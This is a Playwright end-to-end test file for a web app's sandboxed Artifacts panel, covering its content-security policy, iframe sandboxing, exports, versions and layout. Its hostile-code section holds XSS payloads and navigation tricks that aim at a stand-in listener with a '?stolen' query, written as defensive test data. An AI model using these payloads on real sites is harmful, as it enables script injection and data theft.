// Artifacts in the page: drawn in their frame, looked at from all sides, changed, taken along; and what hostile ones reach.
// usage: node artifacts.mjs DEMO-URL SLOW-URL
import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { WIDTHS, accessible, answered, ask, box, check, clean, end, glance, look, open, outside, projectOf, put, shots, sizeOf, want } from './page.mjs'

const [demo, slow] = process.argv.slice(2)
const CHART = 'Draw the total of orders by month.'
const BOARD = 'Make a dashboard of the customers by country.'

const panel = page => page.getByRole('complementary', { name: 'Artifacts' })
const frame = page => panel(page).frameLocator('iframe')
const tab = (page, name) => panel(page).getByRole('tab', { name }).click()

// Asks for an artifact of the demo and opens it.
async function draw(page, question, title) {
	await ask(page, question)
	await answered(page)
	await page.getByRole('button', { name: `Open ${title}` }).last().click()
	await panel(page).getByRole('heading', { name: title }).waitFor()
}

async function saved(page, as) {
	await panel(page).getByRole('button', { name: 'Export' }).click()
	const download = page.waitForEvent('download')
	await panel(page).getByRole('button', { name: as }).click()
	const d = await download
	return { name: d.suggestedFilename(), bytes: readFileSync(await d.path()) }
}

async function show(base, id) {
	const page = await open(base)
	await page.goto(`${base}/?artifacts=${encodeURIComponent(await projectOf(base))}&artifact=${id}`)
	return page
}

await check('the policies of page and frames have no other host', async () => {
	const policyOf = async path => (await fetch(demo + path)).headers.get('content-security-policy')
	const host = new URL(demo).host
	const exact = `frame-src ${host}/frame/react ${host}/frame/plotly ${host}/frame/document;`
	want((await policyOf('/')).includes(exact), await policyOf('/'))
	for (const name of ['react', 'plotly', 'document']) {
		const words = (await policyOf(`/frame/${name}`)).split(/[; ]+/)
		const odd = words.filter(w => !/^([a-z-]+|'none'|'self'|'unsafe-inline'|'unsafe-eval'|'sha256-[\w+/=]+'|data:|blob:)$/.test(w))
		want(odd.length === 0 && words.includes('sandbox') && !words.includes('allow-same-origin'), `${name}: ${words.join(' ')}`)
		want(words.includes("'unsafe-eval'") === (name === 'react'), `${name}: ${words.join(' ')}`)
	}
	want((await fetch(`${demo}/frame/other`)).status === 404, 'there is another frame')
})

await check('a chart of an answer is drawn in a frame that may only run scripts', async () => {
	const page = await open(demo)
	await draw(page, CHART, 'Total of orders by month')
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	want((await panel(page).locator('iframe').getAttribute('sandbox')) === 'allow-scripts', 'another sandbox')
	await page.reload()
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	clean(page)
	await page.context().close()
})

await check('a React dashboard is compiled, drawn, and answers to a choice', async () => {
	const page = await open(demo)
	await draw(page, BOARD, 'Customers by country')
	await frame(page).locator('.recharts-bar-rectangle').nth(7).waitFor()
	const first = frame(page).locator('svg text').first()
	want((await first.textContent()) === 'Germany', await first.textContent())
	await frame(page).getByRole('combobox').selectOption('country')
	await first.filter({ hasNotText: 'Germany' }).waitFor()
	const looks = await frame(page).locator('label').evaluate(e => getComputedStyle(e).display)
	want(looks === 'flex', `the classes of Tailwind have no rules: ${looks}`)
	clean(page)
	await page.context().close()
})

await check('data, code and pictures are taken along', async () => {
	const page = await open(demo)
	await draw(page, CHART, 'Total of orders by month')
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	await tab(page, 'Code')
	await panel(page).getByLabel('Code').getByText('{{months.total}}').waitFor()
	await tab(page, 'Data')
	await panel(page).getByRole('region', { name: 'Rows of months' }).getByText('2023-07').waitFor()
	const csv = await saved(page, 'Data (CSV)')
	want(csv.name === 'months.csv' && csv.bytes.toString().startsWith('month,total\r\n2023-07,1426.58\r\n'), csv.bytes.toString())
	const json = await saved(page, 'Data (JSON)')
	want(JSON.parse(json.bytes).months[0].total === 1426.58, json.bytes.toString())
	const svg = await saved(page, 'Picture (SVG)')
	want(svg.name === 'Total of orders by month.svg' && /^<svg[^]*2,?500|^<svg[^]*point/.test(svg.bytes), svg.bytes.toString().slice(0, 200))
	const png = await saved(page, 'Picture (PNG)')
	want(png.bytes.subarray(1, 4).toString() === 'PNG' && png.bytes.length > 5000, `${png.bytes.length} bytes`)
	const html = (await saved(page, 'Page (HTML)')).bytes.toString()
	want(html.includes('<td>1426.58</td>') && html.includes('src="data:image/svg+xml') && !html.includes('<script'), html.slice(0, 500))
	const alone = await page.context().newPage()
	await alone.setContent(html)
	await alone.waitForFunction(() => document.images[0]?.naturalWidth > 100)
	const code = await saved(page, 'Code')
	want(JSON.parse(code.bytes).data[0].type === 'bar', code.bytes.toString())
	clean(page)
	await page.context().close()
})

await check('an artifact is renamed, found, deleted and brought back', async () => {
	const page = await open(demo)
	await draw(page, CHART, 'Total of orders by month')
	await panel(page).getByRole('button', { name: 'Rename the artifact' }).click()
	await panel(page).getByRole('textbox', { name: 'New title of the artifact' }).fill('Orders, month by month')
	await page.keyboard.press('Enter')
	await panel(page).getByRole('heading', { name: 'Orders, month by month' }).waitFor()
	await panel(page).getByRole('button', { name: 'All artifacts' }).click()
	await panel(page).getByRole('searchbox', { name: 'Search artifacts' }).fill('month by')
	await panel(page).getByRole('button', { name: 'Total of orders' }).first().waitFor({ state: 'detached' })
	await panel(page).getByRole('button', { name: 'Orders, month by month' }).click()
	await panel(page).getByRole('button', { name: 'Delete the artifact' }).click()
	await panel(page).getByRole('button', { name: 'Delete', exact: true }).click()
	await panel(page).getByText('can be brought back for 30 days').waitFor()
	await panel(page).getByRole('button', { name: 'All artifacts' }).last().click()
	await panel(page).getByRole('checkbox', { name: 'Deleted ones' }).check()
	await panel(page).getByRole('button', { name: 'Bring back “Orders, month by month”' }).click()
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	await panel(page).getByRole('button', { name: 'Close the panel' }).click()
	await panel(page).waitFor({ state: 'detached' })
	clean(page)
	await page.context().close()
})

await check('versions are listed, compared and shown', async () => {
	const id = await put(demo, 'create_artifact', { title: 'A report', artifact_type: 'markdown', code: '# Sales\n\nOne\n\nTwo\n\n| a | b |\n|---|---|\n| 1 | 2 |\n' })
	await put(demo, 'update_artifact', { artifact_id: id, code: '# Sales\n\nOne\n\nThree **strong**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n' })
	const page = await show(demo, id)
	await frame(page).locator('strong', { hasText: 'strong' }).waitFor()
	want((await frame(page).locator('td').count()) === 2, 'its table')
	await tab(page, 'Versions')
	await panel(page).getByRole('button', { name: 'Changes of version 2' }).click()
	const diff = panel(page).locator('pre[aria-label="What version 2 changed"]')
	await diff.waitFor()
	const text = await diff.textContent()
	want(text.includes('removed: - Two') && text.includes('added: + Three **strong**') && !text.includes('removed: - One'), text)
	await accessible(page, 'versions')
	await panel(page).getByRole('button', { name: 'Show version 1' }).click()
	await panel(page).getByText('This is version 1, an older one.').waitFor()
	await frame(page).getByText('Two').waitFor()
	const html = await saved(page, 'Page (HTML)')
	want(html.bytes.includes('<p>Two</p>') && !html.bytes.includes('<script'), html.bytes.toString())
	await panel(page).getByRole('button', { name: 'Show the newest' }).click()
	await frame(page).getByText('Three').waitFor()
	clean(page)
	await page.context().close()
})

await check('data is read again', async () => {
	const page = await open(demo)
	await draw(page, CHART, 'Total of orders by month')
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	// What the server gives is changed on its way.
	await page.route('**/query-data*', async route => {
		const r = await route.fetch()
		const body = await r.json()
		body.data.months = body.data.months.slice(0, 5)
		await route.fulfill({ response: r, json: body })
	})
	await panel(page).getByRole('button', { name: 'Read the data again' }).click()
	await frame(page).locator('.barlayer .point').nth(5).waitFor({ state: 'detached' })
	want((await frame(page).locator('.barlayer .point').count()) === 5, 'the new data is drawn')
	clean(page)
	await page.context().close()
})

await check('an artifact that throws shows its error, and the analyst is asked to mend it', async () => {
	const page = await open(slow)
	await ask(page, 'Draw a broken chart')
	await answered(page)
	await page.getByRole('button', { name: 'Open Broken' }).click()
	const alert = panel(page).getByRole('alert')
	await alert.getByText('TypeError: the rows are gone').first().waitFor()
	await glance(page, 'broken artifact', 'artifact-broken')
	await alert.getByRole('button', { name: 'Ask the analyst to mend it' }).click()
	await page.getByText('I read the error and will mend it.').waitFor()
	want((await page.getByText(/cannot be drawn: TypeError: the rows are gone/).count()) === 1, 'the question has the error')
	clean(page)
	await page.context().close()
})

await check('each mistake of code and data is said in words', async () => {
	for (const [title, kind, code, words] of [
		['no code', 'react', 'export default function App( { return <p>x</p> }', 'SyntaxError'],
		['no component', 'react', 'const a = 1', 'the code has no component'],
		['an import', 'react', "import x from 'lodash'\nexport default () => x", 'cannot import "lodash"'],
		['a late error', 'react', 'export default function App() { React.useEffect(() => { setTimeout(() => { throw new Error("later") }, 50) }, []); return "now" }', 'Error: later'],
		['no JSON', 'plotly', 'var x = 1', 'the specification is not JSON'],
		['no data', 'plotly', '{"data":[{"x":"{{sales.month}}","y":[1]}]}', 'there is no data "sales.month"'],
		['no such trace', 'plotly', '{"data":[{"type":"hologram","y":[1]}]}', 'there is no trace of the type "hologram"'],
	]) {
		const page = await show(slow, await put(slow, 'create_artifact', { title, artifact_type: kind, code }))
		await panel(page).getByRole('alert').getByText(words).first().waitFor()
		want(page.wrongs.every(w => w === words), page.wrongs.join('\n')) // the browser notes the late one
		await page.context().close()
	}
})

await check('Markdown, HTML and SVG run nothing', async () => {
	const evil = '<script>parent.postMessage({argus:"error",message:"ran"},"*")</script><img src=x onerror="parent.postMessage({argus:\'error\',message:\'ran\'},\'*\')">'
	for (const [kind, code] of [
		['html', `<h1>Harmless</h1>${evil}`],
		['markdown', `# Harmless\n\n${evil}`],
		['svg', `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"><text x="5" y="40">Harmless</text><script>parent.postMessage({argus:"error",message:"ran"},"*")</script></svg>`],
	]) {
		const page = await show(slow, await put(slow, 'create_artifact', { title: `Hostile ${kind}`, artifact_type: kind, code }))
		await frame(page).getByText('Harmless').first().waitFor()
		await page.waitForTimeout(300)
		want((await frame(page).locator('script').count()) === 0, 'the script is in the document') // the frame's own went with the body
		want((await panel(page).getByRole('alert').count()) === 0, 'it ran')
		clean(page)
		await page.context().close()
	}
})

// --- hostile code ---

const { away, port, heard } = await outside()

// A page whose frame is watched: which of the frame's requests were answered.
async function watched(id) {
	const page = await open(slow)
	page.answered = []
	page.on('response', r => {
		if (!r.request().isNavigationRequest() && r.frame() !== page.mainFrame()) page.answered.push(r.url())
	})
	page.on('popup', p => page.answered.push(`a window: ${p.url()}`))
	page.on('download', d => page.answered.push(`a file: ${d.url()}`))
	await page.context().addCookies([{ name: 'argus_session', value: 'secret', url: slow, httpOnly: false }])
	await page.goto(`${slow}/?artifacts=${encodeURIComponent(await projectOf(slow))}&artifact=${id}`)
	return page
}

await check('the listener hears what is sent to it', async () => {
	const p = createSocket('udp4')
	p.send('x', port, '127.0.0.1', () => p.close())
	await (await fetch(away)).text()
	await new Promise(done => setTimeout(done, 200))
	want(heard.length === 3, JSON.stringify(heard))
})

await check('hostile code reaches neither API, cookies, page nor network', async () => {
	heard.length = 0
	const code = readFileSync(new URL('hostile.jsx', import.meta.url), 'utf8').replace('{{outside}}', away).replace('{{port}}', String(port))
	const page = await watched(await put(slow, 'create_artifact', { title: 'Hostile', artifact_type: 'react', code }))
	await frame(page).getByText('ways tried, all').waitFor({ timeout: 120000 })
	const said = JSON.parse(await frame(page).locator('pre').getAttribute('data-said'))
	const reached = Object.entries(said).filter(([, words]) => !words.startsWith('refused'))
	want(Object.keys(said).length > 35, `${Object.keys(said).length} ways`)
	want(reached.length === 0, JSON.stringify(reached, null, 1))
	want(page.answered.length === 0, `answered: ${page.answered}`)
	want(heard.length === 0, `outside: ${heard}`)
	want(page.url().startsWith(slow), page.url())
	await box(page).waitFor()
	await page.context().close()
})

// Chromium connects to the host of a navigation before it refuses it, and sends nothing: SECURITY.md says so.
await check('hostile code cannot lead its frame away', async () => {
	for (const [way, code] of [
		['location', `location.href = '${away}/?stolen'`],
		['replace', `location.replace('${away}/?stolen')`],
		['refresh', `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${away}/?stolen">')`],
		['link', `const a = document.createElement('a'); a.href = '${away}/?stolen'; document.body.append(a); a.click()`],
		['frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: '${away}/?stolen' }))`],
		['data', `location.href = 'data:text/html,<script>fetch("${away}/?stolen")</script><img src="${away}/?stolen">'`],
		['API', "location.href = '/api/start'"],
		['page', "location.href = '/'"],
	]) {
		heard.length = 0
		const page = await watched(await put(slow, 'create_artifact', { title: `Leaves by ${way}`, artifact_type: 'react', code: `export default function App() { React.useEffect(() => { ${code} }, []); return 'here' }` }))
		await panel(page).locator('iframe').waitFor()
		await page.waitForTimeout(1500)
		want(heard.every(h => h.startsWith('a connection')), `${way}: outside: ${heard}`)
		const inside = page.frames().filter(f => f !== page.mainFrame()).map(f => f.url())
		want(inside.every(u => u === `${slow}/frame/react` || /^(chrome-error:|about:blank$|$)/.test(u)), `${way}: ${inside}`)
		want(page.url().startsWith(slow), `${way}: ${page.url()}`)
		await page.context().close()
	}
})

await check('the page believes no message but those of its frame', async () => {
	const page = await show(slow, await put(slow, 'create_artifact', { title: 'Quiet', artifact_type: 'react', code: 'export default () => "quiet"' }))
	await frame(page).getByText('quiet').waitFor()
	await page.evaluate(() => postMessage({ argus: 'error', message: 'forged', stack: '' }, '*'))
	await page.waitForTimeout(300)
	want((await panel(page).getByRole('alert').count()) === 0, 'it took a forged message')
	clean(page)
	await page.context().close()
})

await check('an artifact that never ends does not take the page along', async () => {
	const page = await show(slow, await put(slow, 'create_artifact', { title: 'Endless', artifact_type: 'react', code: 'export default () => { for (;;); }' }))
	await panel(page).getByText('Nothing was drawn within 15 seconds.').waitFor({ timeout: 60000 })
	await panel(page).getByRole('button', { name: 'Close the panel' }).click()
	await panel(page).waitFor({ state: 'detached' })
	await page.context().close()
})


// --- how it looks ---

await check('the panel is as wide as one likes, by pointer and by keyboard', async () => {
	const page = await open(demo, { viewport: { width: 1440, height: 900 } })
	await draw(page, CHART, 'Total of orders by month')
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	const width = async () => (await panel(page).boundingBox()).width
	const before = await width()
	const divider = panel(page).getByRole('separator', { name: 'Width of the panel' })
	await divider.focus()
	await page.keyboard.press('ArrowLeft')
	want((await width()) > before, 'the arrow made it wider')
	const at = await divider.boundingBox()
	await page.mouse.move(at.x + 4, at.y + 300)
	await page.mouse.down()
	await page.mouse.move(1400, at.y + 300, { steps: 5 })
	await page.mouse.up()
	want((await width()) === 320, `it has ${await width()} pixels, not 320`)
	await page.mouse.move(1440 - 320, 300)
	await page.mouse.down()
	await page.mouse.move(20, 300, { steps: 5 })
	await page.mouse.up()
	want((await width()) === 1080, `it has ${await width()} pixels, not 1080`)
	await page.reload()
	await frame(page).locator('.barlayer .point').nth(23).waitFor()
	want((await width()) === 1080, 'it was forgotten')
	await page.context().close()
})

for (const width of WIDTHS) {
	await check(`the panel is accessible in both themes: ${width} pixels`, async () => {
		const page = await open(demo, { viewport: sizeOf(width) })
		await draw(page, CHART, 'Total of orders by month')
		await frame(page).locator('.barlayer .point').nth(23).waitFor()
		await look(page, 'view', 'artifact-view')
		for (const name of ['Code', 'Data', 'Versions']) {
			await tab(page, name)
			await panel(page).getByText({ Code: '{{months.total}}', Data: '2023-07', Versions: 'shown' }[name]).first().waitFor()
			await look(page, name, `artifact-${name.toLowerCase()}`)
		}
		await panel(page).getByRole('button', { name: 'All artifacts' }).click()
		await panel(page).getByRole('list', { name: 'Artifacts' }).getByRole('button').first().waitFor()
		await look(page, 'list', 'artifact-list')
		await panel(page).getByRole('button', { name: 'Close the panel' }).click()
		await draw(page, BOARD, 'Customers by country')
		await frame(page).locator('.recharts-bar-rectangle').nth(7).waitFor()
		if (shots) {
			await page.waitForTimeout(1800) // the bars grow
			await look(page, 'a dashboard', 'artifact-board')
		}
		clean(page)
		await page.context().close()
	})
}

await end()
